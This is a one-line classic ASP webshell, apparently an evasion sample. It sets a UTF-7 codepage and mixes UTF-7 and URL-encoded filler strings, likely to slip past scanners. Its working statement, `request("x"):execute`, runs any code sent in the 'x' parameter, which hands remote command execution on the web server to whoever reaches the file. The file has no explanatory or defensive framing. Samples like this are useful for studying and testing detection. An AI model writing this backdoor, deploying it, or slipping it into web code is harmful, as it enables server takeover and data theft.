<%@ codepage=65000 %>+AGgAaQ- +- you {'h','e'} "%68%65%6c%6c%6f%20world hello" d = request("x"):execute d
